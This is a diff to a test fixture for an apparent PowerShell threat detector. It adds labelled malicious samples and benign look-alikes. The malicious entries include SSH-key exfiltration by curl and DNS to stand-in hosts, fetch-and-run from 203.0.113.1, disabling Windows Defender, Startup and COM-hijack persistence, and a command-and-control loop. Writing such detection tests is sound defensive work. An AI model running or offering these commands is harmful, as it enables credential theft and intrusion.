@@ -152,6 +152,44 @@ const MALICIOUS: readonly (readonly [string, string, string])[] = [
     'Add-Type -TypeDefinition \'[DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);\'',
     'critical process-injection',
   ],
+  ['a start-up file', "Add-Content $PROFILE 'iex (iwr http://203.0.113.1/x)'", 'warn persistence'],
+  [
+    'a shortcut at start-up',
+    '$w = New-Object -ComObject WScript.Shell\n$s = $w.CreateShortcut("$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk")',
+    'critical persistence',
+  ],
+  [
+    'a process through WMI',
+    "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'powershell -c iex(iwr http://203.0.113.1/x)'",
+    'critical fetch-and-run',
+  ],
+  [
+    'curl of Windows',
+    'curl.exe -F file=@$env:USERPROFILE\\.ssh\\id_rsa https://c.example/u',
+    'critical credential-exfiltration',
+  ],
+  ['a service that protects', 'Stop-Service WinDefend -Force', 'critical protection-off'],
+  [
+    'codes in a loop',
+    "iex ((('69 64').Split(' ') | % {[char][convert]::toint16($_,16)}) -join '')",
+    'critical obfuscated-code',
+  ],
+  [
+    'names that carry data',
+    '$d=[Convert]::ToBase64String([IO.File]::ReadAllBytes("$env:USERPROFILE\\.ssh\\id_rsa"));Resolve-DnsName "$($d.Substring(0,30)).c.example"',
+    'critical credential-exfiltration',
+  ],
+  [
+    'a class in the place of another',
+    "New-Item -Path 'HKCU:\\Software\\Classes\\CLSID\\{1}\\InprocServer32' -Value a.dll -Force",
+    'critical persistence',
+  ],
+  ['an installer from an address', 'msiexec /i http://203.0.113.1/a.msi /qn', 'critical fetch-and-run'],
+  [
+    'commands from a server in a loop',
+    'while(1){$c=irm https://c.example/t;$o=iex $c|out-string;irm https://c.example/r -Method Post -Body $o}',
+    'warn fetch-and-run',
+  ],
 ];
 
 /** Name and code of what looks alike and is not. */
@@ -217,6 +255,20 @@ const BENIGN: readonly (readonly [string, string])[] = [
   [
     'mail with a secret store',
     '$cred = Get-Credential\nSend-MailMessage -To a@example.com -From b@example.com -Subject x -SmtpServer smtp.example.com -Credential $cred',
+  ],
+  [
+    'numbers in a loop',
+    "(1..5 | % { $_ * 2 }) -join ','\n('a b'.Split(' ') | ForEach-Object { $_.ToUpper() }) -join ' '",
+  ],
+  ['a service of its own', 'Stop-Service MyApp; Set-Service MyApp -StartupType Manual'],
+  [
+    'a key of its own in the registry',
+    "New-Item -Path 'HKCU:\\Software\\Acme' -Force\nNew-ItemProperty -Path 'HKCU:\\Software\\Acme' -Name Theme -Value dark",
+  ],
+  ['a name that is looked up', 'Resolve-DnsName api.example.com'],
+  [
+    'a shortcut on the desktop',
+    '$w = New-Object -ComObject WScript.Shell\n$s = $w.CreateShortcut("$env:USERPROFILE\\Desktop\\Acme.lnk")\n$s.TargetPath = "$PSScriptRoot\\acme.exe"\n$s.Save()',
   ],
 ];
 
